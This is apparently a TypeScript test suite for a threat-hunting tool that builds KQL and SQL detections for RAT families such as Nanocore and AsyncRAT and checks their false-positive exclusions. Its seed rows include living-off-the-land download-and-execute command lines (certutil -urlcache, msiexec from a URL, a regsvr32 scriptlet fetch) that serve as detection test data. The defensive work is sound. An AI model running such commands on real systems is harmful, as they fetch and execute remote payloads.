import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { type DuckDBConnection, DuckDBInstance } from '@duckdb/node-api';
import { YamlFileError } from '../../src/config/yaml.js';
import { compileConditionSql, sqlString } from '../../src/engine/sql/condition.js';
import { behaviourHunts, loadProfiles, parseProfile, profilesFor } from '../../src/hunts/profiles.js';
import type { Hunt } from '../../src/hunts/types.js';
import { validateKql } from '../../src/kql/validate.js';
import {
  compileConditionKql,
  compileExclusionsKql,
  exclusionEffectsKql,
} from '../../src/render/kql/condition.js';

const GUID = /^[0-9a-f]{8}-[0-9a-f]{4}-5[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/;

function renderKql(hunt: Hunt): { query: string; applied: string[]; skipped: string[] } {
  const selection = compileConditionKql(hunt.selection!, hunt.table);
  assert.ok(selection.evaluable, `${hunt.title} on ${hunt.table}: selection not evaluable`);
  assert.deepEqual(selection.skipped, [], `${hunt.title} on ${hunt.table}`);
  const exclusions = compileExclusionsKql(hunt.exclusions, hunt.table, hunt.kind);
  const query = [hunt.table, `| where ${selection.kql}`, ...exclusions.lines].join('\n');
  return { query, applied: exclusions.applied, skipped: exclusions.skipped.map((s) => s.exclusionId) };
}

test('the shipped profiles load: Nanocore, AsyncRAT, Remcos, Agent Tesla with ATT&CK ids', () => {
  const profiles = loadProfiles();
  assert.deepEqual(
    profiles.map((p) => [p.id, p.attackId]),
    [
      ['agenttesla', 'S0331'],
      ['asyncrat', 'S1087'],
      ['nanocore', 'S0336'],
      ['remcos', 'S0332'],
    ],
  );
  for (const profile of profiles) {
    assert.ok(profile.hunts.length >= 3, profile.id);
    assert.ok(profile.references.every((r) => r.startsWith('https://')));
    for (const hunt of profile.hunts) {
      for (const tactic of hunt.tactics) assert.doesNotMatch(tactic, /\s/);
      for (const technique of hunt.techniques) assert.match(technique, /^T\d{4}(\.\d{3})?$/);
    }
  }
});

test('profilesFor matches printable names, aliases and Malpedia ids, ignoring case and punctuation', () => {
  const ids = (names: string[]) => profilesFor(names).map((p) => p.id);
  assert.deepEqual(ids(['Nanocore RAT']), ['nanocore']);
  assert.deepEqual(ids(['win.nanocore']), ['nanocore']);
  assert.deepEqual(ids(['NANCRAT']), ['nanocore']);
  assert.deepEqual(ids(['win.agent_tesla', 'AsyncRAT']), ['agenttesla', 'asyncrat']);
  assert.deepEqual(ids(['agent tesla']), ['agenttesla']);
  assert.deepEqual(ids(['RemcosRAT', 'remcos']), ['remcos']);
  assert.deepEqual(ids(['Cobalt Strike', '', 'Unknown malware']), []);
});

test('every behaviour hunt is complete and its KQL (selection plus exclusions) passes Microsoft’s parser', () => {
  const all = loadProfiles().flatMap((p) =>
    behaviourHunts(p, { lists: { knownMsiPackages: ['CorpAgent.msi'], adminAccounts: ['svc-admin'] } }),
  );
  assert.ok(all.length >= 26, `${all.length} hunts`);
  assert.equal(new Set(all.map((h) => h.id)).size, all.length, 'ids are unique');
  for (const hunt of all) {
    assert.match(hunt.id, GUID);
    assert.equal(hunt.kind, 'behaviour');
    assert.ok(['DeviceProcessEvents', 'SecurityEvent', 'DeviceRegistryEvents'].includes(hunt.table));
    assert.ok(hunt.connectors.length > 0 && hunt.connectors.every((c) => c.dataTypes.includes(hunt.table)));
    assert.deepEqual(
      hunt.entityMappings.map((e) => e.entityType),
      ['Host', 'Account', 'Process'],
    );
    assert.ok(hunt.project.includes('commandLine') && hunt.project.includes('host'));
    const { query, skipped } = renderKql(hunt);
    assert.deepEqual(validateKql(query), [], query);
    if (hunt.table === 'SecurityEvent') assert.match(query, /EventID == 4688/);
    if (hunt.table === 'DeviceRegistryEvents') assert.match(query, /ActionType =~ "RegistryValueSet"/);
    // every exclusion a scenario names is on the hunt
    const ids = new Set(hunt.exclusions.map((e) => e.id));
    for (const scenario of hunt.falsePositives)
      for (const id of scenario.exclusionIds) assert.ok(ids.has(id));
    // only exclusions on Defender-only columns may be skipped, and only on SecurityEvent
    if (hunt.table === 'DeviceProcessEvents') assert.deepEqual(skipped, []);
  }
});

test('hunt ids are stable across runs and differ per table', () => {
  const [nanocore] = profilesFor(['nanocore']);
  const first = behaviourHunts(nanocore).map((h) => h.id);
  const second = behaviourHunts(nanocore).map((h) => h.id);
  assert.deepEqual(first, second);
  const byTable = behaviourHunts(nanocore).filter((h) => h.title.includes('install name dhcpmon.exe'));
  assert.equal(byTable.length, 2);
  assert.notEqual(byTable[0].id, byTable[1].id);
});

const SEED_EXCLUSIONS = [
  'nanocore.ntbackup-backup-job',
  'nanocore.admin-task-management',
  'nanocore.certutil-pki-admin',
  'nanocore.msiexec-security-tool',
  'nanocore.regsvr32-installer-com-registration',
];

test('the seed’s five false-positive scenarios are real exclusions compiled into both tables', () => {
  const [nanocore] = profilesFor(['Nanocore RAT']);
  const lolbins = behaviourHunts(nanocore).filter((h) => h.title.includes('Living-off-the-land'));
  assert.deepEqual(
    lolbins.map((h) => h.table),
    ['DeviceProcessEvents', 'SecurityEvent'],
  );
  for (const hunt of lolbins) {
    assert.deepEqual(
      hunt.falsePositives.map((s) => s.title),
      [
        'Legitimate scheduled backup job using ntbackup.exe',
        'Admin using PowerShell to manage scheduled tasks',
        'Legitimate use of certutil.exe for certificate management',
        'Antivirus or endpoint protection tool using msiexec.exe',
        'Legitimate use of regsvr32.exe for COM registration',
      ],
    );
    assert.deepEqual(
      hunt.falsePositives.flatMap((s) => s.exclusionIds),
      SEED_EXCLUSIONS,
    );
    for (const scenario of hunt.falsePositives)
      assert.match(scenario.handling, /Filter applied — nanocore\./);
    const { applied, skipped, query } = renderKql(hunt);
    assert.deepEqual(applied, SEED_EXCLUSIONS);
    assert.deepEqual(skipped, []);
    assert.equal(query.split('\n').filter((l) => l.startsWith('| where not(')).length, 5);
  }
});

let connection: DuckDBConnection;
before(async () => {
  const db = await DuckDBInstance.create(':memory:');
  connection = await db.connect();
});
after(() => connection.closeSync());

// rows: [label, FileName, FolderPath, ProcessCommandLine, InitiatingProcessFileName, reported?]
const SEED_ROWS: [string, string, string, string, string, boolean][] = [
  [
    'backup job',
    'ntbackup.exe',
    'C:\\Windows\\System32\\ntbackup.exe',
    'ntbackup backup systemstate /J "Nightly"',
    'svchost.exe',
    false,
  ],
  [
    'ntbackup from Temp',
    'ntbackup.exe',
    'C:\\Users\\a\\AppData\\Local\\Temp\\ntbackup.exe',
    'ntbackup.exe -x',
    'evil.exe',
    true,
  ],
  [
    'admin task in PowerShell',
    'powershell.exe',
    'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    'powershell.exe -Command "Get-ScheduledTask | Disable-ScheduledTask"',
    'cmd.exe',
    false,
  ],
  [
    'schtasks from Run dialog',
    'schtasks.exe',
    'C:\\Windows\\System32\\schtasks.exe',
    'schtasks /query',
    'explorer.exe',
    false,
  ],
  [
    'schtasks from RAT',
    'schtasks.exe',
    'C:\\Windows\\System32\\schtasks.exe',
    'schtasks /create /tn "DHCP Monitor" /xml x.tmp',
    'RegSvcs.exe',
    true,
  ],
  [
    'certutil addstore',
    'certutil.exe',
    'C:\\Windows\\System32\\certutil.exe',
    'certutil -addstore Root corp.cer',
    'mmc.exe',
    false,
  ],
  [
    'certutil download',
    'certutil.exe',
    'C:\\Windows\\System32\\certutil.exe',
    'certutil -urlcache -f http://x/a.exe a.exe',
    'cmd.exe',
    true,
  ],
  [
    'renamed certutil addstore',
    'certutil.exe',
    'C:\\Users\\Public\\certutil.exe',
    'certutil -addstore Root x.cer',
    'cmd.exe',
    true,
  ],
  [
    'certutil view, folder-only path',
    'certutil.exe',
    'C:\\Windows\\System32',
    'certutil -view',
    'mmc.exe',
    false,
  ],
  [
    'msiexec with -view in System32',
    'msiexec.exe',
    'C:\\Windows\\System32',
    'msiexec /i x.msi -view',
    'cmd.exe',
    true,
  ],
  [
    'msiexec by Defender',
    'msiexec.exe',
    'C:\\Windows\\System32\\msiexec.exe',
    'msiexec /i update.msi /qn',
    'MsMpEng.exe',
    false,
  ],
  [
    'msiexec known package',
    'msiexec.exe',
    'C:\\Windows\\System32\\msiexec.exe',
    'msiexec /i \\\\share\\CorpAgent.msi /qn',
    'ccmexec.exe',
    false,
  ],
  [
    'msiexec remote package',
    'msiexec.exe',
    'C:\\Windows\\System32\\msiexec.exe',
    'msiexec /i http://x/a.msi /q',
    'cmd.exe',
    true,
  ],
  [
    'regsvr32 by installer',
    'regsvr32.exe',
    'C:\\Windows\\System32\\regsvr32.exe',
    'regsvr32 /s "C:\\Program Files\\Vendor\\x.dll"',
    'msiexec.exe',
    false,
  ],
  [
    'regsvr32 scriptlet',
    'regsvr32.exe',
    'C:\\Windows\\System32\\regsvr32.exe',
    'regsvr32 /s /i:http://x/a.sct scrobj.dll "C:\\Program Files\\y.dll"',
    'msiexec.exe',
    true,
  ],
  [
    'regsvr32 from user folder',
    'regsvr32.exe',
    'C:\\Windows\\System32\\regsvr32.exe',
    'regsvr32 /s C:\\Users\\a\\x.dll',
    'msiexec.exe',
    true,
  ],
  ['unrelated process', 'notepad.exe', 'C:\\Windows\\notepad.exe', 'notepad', 'explorer.exe', false],
];

test('the seed exclusions keep the malicious look-alikes and drop the routine uses (DuckDB)', async () => {
  await connection.run(
    'CREATE TABLE DeviceProcessEvents (Label VARCHAR, FileName VARCHAR, FolderPath VARCHAR, ProcessCommandLine VARCHAR, InitiatingProcessFileName VARCHAR)',
  );
  for (const [label, file, path, cmd, parent] of SEED_ROWS) {
    await connection.run(
      `INSERT INTO DeviceProcessEvents VALUES (${[label, file, path, cmd, parent].map(sqlString).join(', ')})`,
    );
  }
  const [nanocore] = profilesFor(['nanocore']);
  const hunt = behaviourHunts(nanocore, { lists: { knownMsiPackages: ['CorpAgent.msi'] } }).find(
    (h) => h.title.includes('Living-off-the-land') && h.table === 'DeviceProcessEvents',
  )!;
  const columns = ['Label', 'FileName', 'FolderPath', 'ProcessCommandLine', 'InitiatingProcessFileName'];
  const where = [
    compileConditionSql(hunt.selection!, hunt.table, columns).sql,
    ...hunt.exclusions.map((e) => `NOT (${compileConditionSql(e.condition, hunt.table, columns).sql})`),
  ];
  const rows = await connection.runAndReadAll(
    `SELECT Label FROM DeviceProcessEvents WHERE ${where.join(' AND ')}`,
  );
  assert.deepEqual(
    rows
      .getRowObjects()
      .map((r) => r.Label)
      .sort(),
    SEED_ROWS.filter((r) => r[5])
      .map((r) => r[0])
      .sort(),
  );
});

test('a profile exclusion on a Defender-only column is skipped on SecurityEvent with a note', () => {
  const [nanocore] = profilesFor(['nanocore']);
  const hunt = behaviourHunts(nanocore).find(
    (h) => h.title.includes('.tmp XML') && h.table === 'SecurityEvent',
  )!;
  const compiled = compileExclusionsKql(hunt.exclusions, hunt.table, hunt.kind);
  assert.deepEqual(
    compiled.skipped.map((s) => s.exclusionId),
    ['nanocore.msi-custom-action-parent', 'nanocore.system-integrity-installer'],
  );
  assert.match(compiled.skipped[0].reason, /applies to table DeviceProcessEvents only/);
});

test('exclusions drawing only on an empty list are left out until huntforge.yaml fills it', () => {
  const [asyncrat] = profilesFor(['asyncrat']);
  const without = behaviourHunts(asyncrat).flatMap((h) => h.exclusions.map((e) => e.id));
  assert.ok(!without.includes('asyncrat.trusted-task-target'));
  const withList = behaviourHunts(asyncrat, { lists: { trustedTaskTargets: ['\\Vendor\\updater.exe'] } });
  const hunt = withList.find((h) => h.exclusions.some((e) => e.id === 'asyncrat.trusted-task-target'))!;
  assert.deepEqual(hunt.exclusions.find((e) => e.id === 'asyncrat.trusted-task-target')?.condition, {
    field: 'commandLine',
    operator: 'contains',
    values: ['\\Vendor\\updater.exe'],
  });
});

test('an invalid profile is rejected with file:line and the allowed values', () => {
  const text = [
    'id: demo',
    'name: Demo',
    'attackId: X1',
    'aliases: [demo]',
    'source: test',
    'hunts:',
    '  - id: one',
    '    title: t',
    '    description: d',
    '    severity: Critical',
    '    tactics: [Command And Control]',
    '    techniques: [1053]',
    '    selection: { field: process, equals: [a.exe] }',
    '    tables: [Event]',
  ].join('\n');
  assert.throws(
    () => parseProfile(text, 'profiles/demo.yaml'),
    (error: YamlFileError) => {
      const lines = error.message.split('\n');
      assert.match(lines[0], /^profiles\/demo\.yaml:3: attackId: 'X1' is not an ATT&CK software id/);
      assert.match(
        lines[1],
        /^profiles\/demo\.yaml:10: hunts\[0\]\.severity: unknown value 'Critical' \(allowed: Informational, Low, Medium, High\)/,
      );
      assert.match(
        lines[2],
        /^profiles\/demo\.yaml:11: hunts\[0\]\.tactics: unknown value 'Command And Control' \(allowed: Reconnaissance, .*CommandAndControl/,
      );
      assert.match(
        lines[3],
        /^profiles\/demo\.yaml:12: hunts\[0\]\.techniques: '1053' is not a technique id/,
      );
      assert.match(
        lines[4],
        /^profiles\/demo\.yaml:14: hunts\[0\]\.tables: unknown value 'Event' \(allowed: DeviceProcessEvents, SecurityEvent, DeviceRegistryEvents\)/,
      );
      return error instanceof YamlFileError;
    },
  );
});

test('the report view: each exclusion with the hunts it changed and those it was skipped on', () => {
  const [nanocore] = profilesFor(['nanocore']);
  const hunts = behaviourHunts(nanocore);
  const effects = exclusionEffectsKql(hunts);
  const byId = new Map(effects.map((e) => [e.exclusion.id, e]));
  const ntbackup = byId.get('nanocore.ntbackup-backup-job')!;
  assert.deepEqual(
    ntbackup.applied.map((a) => a.table),
    ['DeviceProcessEvents', 'SecurityEvent'],
  );
  assert.deepEqual(ntbackup.skipped, []);
  const integrity = byId.get('nanocore.system-integrity-installer')!;
  assert.deepEqual(
    integrity.applied.map((a) => a.table),
    ['DeviceProcessEvents'],
  );
  assert.deepEqual(
    integrity.skipped.map((s) => s.table),
    ['SecurityEvent'],
  );
  assert.match(integrity.skipped[0].reason, /applies to table DeviceProcessEvents only/);
});

test('missing keys are reported once each, at the mapping that lacks them', () => {
  const text = [
    'id: demo',
    'name: Demo',
    'attackId: S0001',
    'aliases: [demo]',
    'hunts:',
    '  - id: one',
    '    title: t',
  ].join('\n');
  assert.throws(
    () => parseProfile(text, 'profiles/demo.yaml'),
    (error: YamlFileError) => {
      assert.deepEqual(error.message.split('\n'), [
        'profiles/demo.yaml:1: missing source',
        'profiles/demo.yaml:6: hunts[0]: missing description',
        'profiles/demo.yaml:6: hunts[0]: missing severity',
        'profiles/demo.yaml:6: hunts[0]: missing tactics',
        'profiles/demo.yaml:6: hunts[0]: missing techniques',
        'profiles/demo.yaml:6: hunts[0]: missing selection',
      ]);
      return true;
    },
  );
});

test('a family is added with a data file alone', () => {
  const profiles = loadProfiles('test/fixtures/profiles/added');
  assert.deepEqual(
    profilesFor(['win.example_loader'], profiles).map((p) => p.name),
    ['Example Loader'],
  );
  const hunts = behaviourHunts(profiles[0], { lists: { intranetHosts: ['apps.corp.local'] } });
  assert.deepEqual(
    hunts.map((h) => h.table),
    ['DeviceProcessEvents', 'SecurityEvent'],
  );
  for (const hunt of hunts) {
    const { query, applied } = renderKql(hunt);
    assert.deepEqual(validateKql(query), [], query);
    assert.deepEqual(applied, ['exampleloader.intranet-hta-host']);
    assert.match(query, /contains "intranet\.example" or \w+ contains "apps\.corp\.local"/);
  }
});
